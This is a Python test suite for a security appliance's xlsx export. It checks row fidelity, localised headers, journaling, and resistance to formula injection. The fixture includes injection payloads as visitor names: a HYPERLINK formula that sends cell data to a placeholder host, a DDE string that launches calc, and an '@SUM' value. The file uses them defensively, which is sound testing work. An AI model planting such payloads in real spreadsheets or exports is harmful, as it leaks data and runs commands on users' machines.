"""`watchkeeper export KIND --format xlsx`: a workbook re-read with openpyxl matches the store row for row,
its headers are in the site's language, and no stored text becomes a formula."""

from __future__ import annotations

import json
import textwrap
import zipfile
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from watchkeeper.core.i18n import _
from watchkeeper.faces.cli import make_cli
from watchkeeper.faces.forms import EXPORT_KINDS, local_time, parse_period, registers, rows
from watchkeeper.faces.forms_export import write_xlsx
from watchkeeper.host import open_site
from watchkeeper.rules.door_service import Access
from watchkeeper.rules.footage import Footage
from tests.logins import proven

SITE = """\
[site]
name = "Export"
time_zone = "Asia/Shanghai"

[[cameras]]
id = "gate"
location = "Gate"
purpose = "vehicles"
zone = "perimeter"
platform = "hikvision"
host = "127.0.0.1"
port = 1

[[people]]
id = "li"
name = "Li Wei"
roles = ["operator"]
trained_on = 2025-03-01

[[people]]
id = "zhang"
name = "Zhang Min"
roles = ["supervisor"]
"""
INJECTION = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'


@pytest.fixture
def app(tmp_path: Path):
    (tmp_path / "site.toml").write_text(textwrap.dedent(SITE), encoding="utf-8")
    opened = open_site(tmp_path / "site.toml")
    now = datetime.now(timezone.utc)
    access = Access(opened)
    for number, name in enumerate((INJECTION, "王小明", "+1 555 cmd|' /C calc'!A0", "@SUM(1)")):
        visitor = access.register_visitor("li", name, "-2+3", "audit", "zhang", now - timedelta(hours=1),
                                          now + timedelta(hours=1), f"V-{number}", "")
        access.decide_visitor("zhang", visitor, approve=True)
    footage = Footage(opened)
    request = footage.request("li", "gate", now - timedelta(hours=3), now - timedelta(hours=2), "incident", "C-9")
    footage.decide("zhang", request, approve=False, note="not needed")
    opened.store.db["access_events"].insert({"time_utc": now.isoformat(), "door": "room", "credential_kind": "card",
                                             "credential": "1234", "person": "li", "visitor": None, "event": "entry",
                                             "allowed": 1, "reason": "staff", "actuated": 1})
    opened.store.db["findings"].insert({"kind": "disk_error", "subject": "gate", "channel": None, "severity": "fault",
                                        "clause": "R8", "reason": "disk 1 is error", "opened_at": now.isoformat(),
                                        "last_seen_at": now.isoformat(), "closed_at": None, "details": "{}"})
    opened.store.db["inspection_runs"].insert({"started_at": now.isoformat(), "finished_at": now.isoformat(),
                                               "actor": "li", "cameras": 1, "ok": 1, "warning": 0, "fault": 0,
                                               "signed_by": "li", "signed_at": now.isoformat(), "note": ""})
    yield opened
    opened.close()


@pytest.mark.parametrize("kind", EXPORT_KINDS)
def test_a_reread_workbook_matches_the_store_row_for_row(app, tmp_path: Path, kind: str) -> None:
    register, period = registers()[kind], parse_period("day", app.site.zone)
    out = tmp_path / f"{kind}.xlsx"
    stored = rows(app, register, period)  # before the export, which journals itself
    record = write_xlsx(app, register, period, out, actor="li")
    sheet = load_workbook(out)[register.kind]
    cells = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert cells[0] == [column.header for column in register.columns]
    # Times are site-local date-times to the second (what a spreadsheet cell holds exactly).
    expected = [[local_time(row[c.key], app.site.zone).replace(microsecond=0) if c.kind == "time" and row[c.key]
                 else row[c.key] for c in register.columns] for row in stored]
    assert [[None if v == "" else v for v in row] for row in cells[1:]] == \
        [[None if v == "" else v for v in row] for row in expected]
    assert record["rows"] == len(stored)
    if kind in ("journal", "visitors", "retrievals", "access", "findings", "inspections"):
        assert stored, f"the fixture holds {kind} rows today"


def test_the_journal_export_holds_the_bodies_as_stored(app, tmp_path: Path) -> None:
    register = registers()["journal"]
    write_xlsx(app, register, parse_period("day", app.site.zone), tmp_path / "j.xlsx", actor="li")
    sheet = load_workbook(tmp_path / "j.xlsx")["journal"]
    bodies = [row[5] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert any(json.loads(body).get("visitor") is not None or "name" in body for body in bodies)


def test_no_stored_text_becomes_a_formula(app, tmp_path: Path) -> None:
    out = tmp_path / "visitors.xlsx"
    write_xlsx(app, registers()["visitors"], parse_period("day", app.site.zone), out, actor="li")
    sheet = load_workbook(out)["visitors"]
    names = {row[1].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for name in (INJECTION, "+1 555 cmd|' /C calc'!A0", "@SUM(1)"):
        assert names[name].data_type == "s" and names[name].quotePrefix, name
    organisation = sheet.cell(row=2, column=3)
    assert organisation.value == "-2+3" and organisation.data_type == "s"
    with zipfile.ZipFile(out) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml


def test_headers_follow_the_language(app, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WATCHKEEPER_LANG", "zh_CN")
    out = tmp_path / "v.xlsx"
    write_xlsx(app, registers()["visitors"], parse_period("day", app.site.zone), out, actor="li")
    header = [c.value for c in load_workbook(out)["visitors"][1]]
    assert "来访人姓名" in header and "来访事由" in header
    about = {row[0]: row[1] for row in load_workbook(out)["说明"].iter_rows(values_only=True)}
    assert about["登记表"] == "来访登记表"
    assert about["值班日志末条序号"] >= 1


def test_the_export_command_writes_and_journals(app, tmp_path: Path) -> None:
    app.close()
    out = tmp_path / "findings.xlsx"
    result = CliRunner().invoke(make_cli(config=tmp_path / "site.toml"),
                                proven(["--config", str(tmp_path / "site.toml"), "export", "findings", "--period",
                                        "week", "--format", "xlsx", "--out", str(out), "--actor", "zhang"]))
    assert result.exit_code == 0, result.output
    assert "1" in result.output and load_workbook(out)["findings"].max_row == 2
    reopened = open_site(tmp_path / "site.toml")
    try:
        actor, text = reopened.store.conn.execute(
            "SELECT actor, body FROM journal WHERE subject = 'export' ORDER BY seq DESC LIMIT 1").fetchone()
    finally:
        reopened.close()
    body = json.loads(text)
    assert body["export"] == "findings" and body["rows"] == 1 and len(body["sha256"]) == 64
    assert actor == "zhang"  # the proven person who exported it, not the appliance


def test_a_bad_period_or_folder_is_a_usage_error(app, tmp_path: Path) -> None:
    app.close()
    cli = make_cli(config=tmp_path / "site.toml")
    base = ["--config", str(tmp_path / "site.toml"), "export", "journal", "--actor", "li"]
    bad = CliRunner().invoke(cli, proven(base + ["--period", "soon", "--out", str(tmp_path / "x.xlsx")]))
    assert bad.exit_code == 2 and "is not a period" in bad.output
    nowhere = CliRunner().invoke(cli, proven(base + ["--period", "day", "--out", str(tmp_path / "no" / "x.xlsx")]))
    assert nowhere.exit_code == 2 and "does not exist" in nowhere.output
    assert _("No.")  # the catalogue answers in the test's language
